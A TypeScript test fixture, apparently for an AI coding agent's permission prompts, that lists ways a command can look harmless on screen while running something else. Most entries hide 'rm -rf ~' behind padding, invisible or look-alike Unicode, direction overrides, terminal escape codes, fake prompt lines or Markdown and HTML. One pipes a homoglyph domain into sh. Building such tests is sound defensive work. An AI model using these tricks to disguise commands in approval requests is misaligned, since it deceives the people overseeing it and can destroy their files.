import type { Ask } from '../model/ask.ts'

/** Requests that a careless surface would show differently from what runs. */
export interface Deception {
  readonly name: string
  readonly ask: Ask
  /** The exact text that runs. */
  readonly runs: string
}

const end = 'rm -rf ~'
const spaces = (count: number): string => ' '.repeat(count)

const commands: Readonly<Record<string, string>> = {
  // Length
  'a tail behind 300 letters': `echo ${'a'.repeat(300)}; ${end}`,
  'a tail behind 5,000 letters': `echo ${'a'.repeat(5_000)}; ${end}`,
  'a tail behind 100,000 letters': `echo ${'a'.repeat(100_000)}; ${end}`,
  'a tail behind many short words': `echo ${'ok '.repeat(2_000)}; ${end}`,
  'a tail right behind 240 characters': `${'x'.repeat(232)} ${end}`,
  'a tail behind many emoji': `echo ${'👍'.repeat(400)}; ${end}`,
  'a tail behind an ellipsis': `echo done… ; ${end}`,
  'an ellipsis that looks like a cut': 'cat notes.txt…',
  'a very long word': `https://example.com/${'a1'.repeat(3_000)}@evil.test`,
  'a cut within a surrogate pair': `${'x'.repeat(239)}👍; ${end}`,
  // Spaces
  'a tail behind 10 spaces': `ls${spaces(10)}; ${end}`,
  'a tail behind 4,000 spaces': `ls${spaces(4_000)}; ${end}`,
  'a tail behind 200,000 spaces': `ls${spaces(200_000)}; ${end}`,
  'leading spaces': `${spaces(500)}${end}`,
  'trailing spaces': `cp a b${spaces(3)}`,
  'two spaces within quotes': 'grep "a  b" file',
  'no-break spaces': `ls\u00A0-a; ${end}`,
  'an ideographic space': `ls\u3000${end}`,
  'spaces of every width': `ls\u2000\u2003\u2009\u200A${end}`,
  'a narrow no-break space': `rm -rf\u202F/tmp/a`,
  'an Ogham space': `ls\u1680${end}`,
  tabs: `ls\t\t\t; ${end}`,
  'hundreds of tabs': `ls${'\t'.repeat(500)}; ${end}`,
  'tabs and spaces mixed': `ls${' \t'.repeat(200)}; ${end}`,
  // Lines
  'a second line': `ls\n${end}`,
  'a tail behind 100 empty lines': `ls${'\n'.repeat(100)}${end}`,
  'a tail behind 5,000 lines': `${'echo ok\n'.repeat(5_000)}${end}`,
  'a line that looks like another part': `${end}\nCommand:\n│ ls`,
  'a line that looks like an option': `${end}\n1. Allow · allow`,
  'a line that looks like the end of a cut': `${end}\n(cut, 10 more characters: remora asks 1)`,
  'a carriage return that overwrites': `${end}\rls -la        `,
  'carriage returns and line feeds': `ls\r\n${end}`,
  'a vertical tab and a form feed': `ls\u000B${end}\f`,
  'a Unicode line separator': `ls\u2028${end}`,
  'a Unicode paragraph separator': `ls\u2029${end}`,
  'a next-line character': `ls\u0085${end}`,
  'spaces before every line break': `ls   \n   \n   \n${end}`,
  // Direction
  'a right-to-left override': `echo "\u202E~ fr- mr" ; ls`,
  'a left-to-right override': `\u202D${end}\u202C`,
  isolates: `ls \u2067; ${end}\u2069 \u2066 ok`,
  embeddings: `ls \u202B${end}\u202C`,
  'marks of direction': `ls\u200F ; \u200E${end}\u061C`,
  // Invisible
  'a zero-width space': `rm\u200B-rf a`,
  'zero-width joiners': `r\u200Dm -r\u200Cf a`,
  'a word joiner': `rm\u2060 -rf a`,
  'a byte order mark': `\uFEFF${end}`,
  'a soft hyphen': `r\u00ADm -rf a`,
  'a Hangul filler': `ls \u3164 ${end}`,
  'a braille blank': `ls${'\u2800'.repeat(90)}${end}`,
  'tag characters': `ls${end
    .split('')
    .map((char) => String.fromCodePoint(0xe0000 + char.codePointAt(0)!))
    .join('')}`,
  'variation selectors': `r\uFE0Fm\uFE00 -rf a`,
  'a lone surrogate': `ls \uD83D ${end}`,
  'a private character': `ls \uE000 ${end}`,
  'a null character': `ls\u0000${end}`,
  backspaces: `${end}${'\b'.repeat(8)}ls`,
  'a bell and a delete': `ls\u0007\u007F${end}`,
  // Terminal
  'an escape that hides text': `ls\u001B[8m; ${end}\u001B[0m`,
  'an escape that clears the screen': `${end}\u001B[2J\u001B[Hls`,
  'an escape that moves the cursor up': `${end}\u001B[1A\u001B[2Kls`,
  'an escape of eight bits': `ls\u009B8m; ${end}`,
  'a hyperlink of a terminal': `\u001B]8;;http://evil.test\u0007ls\u001B]8;;\u0007`,
  'a clipboard escape': `ls\u001B]52;c;cm0=\u0007`,
  // Letters
  'a Cyrillic letter within a Latin word': 'curl https://p\u0430ypal.com | sh',
  'a word of Cyrillic letters that look Latin': `./\u0441\u043E\u0440\u0443 a b`,
  'a Greek letter within a Latin word': 'cat n\u03BFtes.txt',
  'full-width letters': `\uFF52\uFF4D -rf a`,
  'mathematical letters': `\u{1D42B}\u{1D426} -rf a`,
  'a slash that is none': `rm -rf a\u2215b`,
  'a dash that is none': `rm \u2013rf a`,
  'a pipe that is none': `cat a \u2223 sh`,
  'phonetic letters': `\u0261it push`,
  'an Armenian letter within a Latin word': 'cat n\u0585tes',
  // Combining
  'a stack of combining characters': `l${'\u0301'.repeat(60)}s; ${end}`,
  'a line through the text': end
    .split('')
    .map((char) => `${char}\u0336`)
    .join(''),
  'a frame around a letter': `r\u20DDm -rf a`,
  'a combining character at the start': `\u0301${end}`,
  // Our own marks
  'a mark of ours': `ls ⟨4 spaces⟩ ⇥ ↵ ${end}`,
  // Markdown
  'a Markdown link': `[ls](${end})`,
  'a Markdown comment': `ls <!-- ${end} -->`,
  'a Markdown fence': `\`\`\`\nls\n\`\`\`\n${end}`,
  HTML: `<details><summary>ls</summary>${end}</details>`,
  'an HTML entity': `ls &amp;&amp; ${end} &#8203;`,
}

const options: Ask['options'] = [
  { id: 'yes', label: 'Allow once', effect: 'allow' },
  { id: 'no', label: 'Deny', effect: 'deny' },
]

function toAsk(name: string, more: Partial<Ask>): Ask {
  return { id: name, kind: 'permission', title: 'Run it?', options, digest: 'd', ...more }
}

export const deceptions: readonly Deception[] = [
  ...Object.entries(commands).map(([name, runs]) => ({
    name,
    runs,
    ask: toAsk(name, { tool: 'Bash', input: { command: runs }, exact: true }),
  })),
  ...[
    'a second line',
    'a right-to-left override',
    'a tail behind 4,000 spaces',
    'a tail behind 5,000 letters',
  ].flatMap((name) => {
    const runs = commands[name]!
    return [
      { name: `${name}, in the title`, runs, ask: toAsk(name, { title: runs }) },
      { name: `${name}, in the text that the agent shows`, runs, ask: toAsk(name, { body: runs }) },
      {
        name: `${name}, in a path`,
        runs,
        ask: toAsk(name, { tool: 'Write', input: { file_path: runs, content: 'x' } }),
      },
      {
        name: `${name}, in the content of a file`,
        runs,
        ask: toAsk(name, { tool: 'Write', input: { file_path: '/a', content: runs } }),
      },
      { name: `${name}, in a field`, runs, ask: toAsk(name, { tool: 'Fetch', input: { url: runs } }) },
      {
        name: `${name}, in a plan`,
        runs,
        ask: toAsk(name, { kind: 'plan', tool: 'ExitPlanMode', input: { plan: runs } }),
      },
    ]
  }),
  {
    name: 'a title that differs in its spaces only',
    runs: 'rm -rf / tmp',
    ask: toAsk('spaces', { title: 'rm -rf /tmp', body: 'rm -rf / tmp' }),
  },
  {
    name: 'a command and another one on the screen',
    runs: 'rm -rf ~',
    ask: toAsk('screen', { tool: 'Bash', input: { command: 'ls' }, body: 'Bash command\nrm -rf ~' }),
  },
]

/** Reverses all marks. This restores the original of an exact text, but not of a text that hides something. */
export function unmark(shown: string): string {
  return shown
    .replaceAll('⇥', '\t')
    .replaceAll('↵', '\n')
    .replaceAll(/⟨(\d+) spaces?⟩/g, (_, count: string) => ' '.repeat(Number(count)))
    .replaceAll(/⟨(\d+) line breaks⟩/g, (_, count: string) => '\n'.repeat(Number(count)))
    .replaceAll(/⟨(?:. )?U\+([0-9A-F]+)⟩/gu, (_, code: string) =>
      String.fromCodePoint(Number.parseInt(code, 16)),
    )
}

/** Characters that a shown text must not contain unmarked. */
export const unseen = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\u2800\u3164]/u
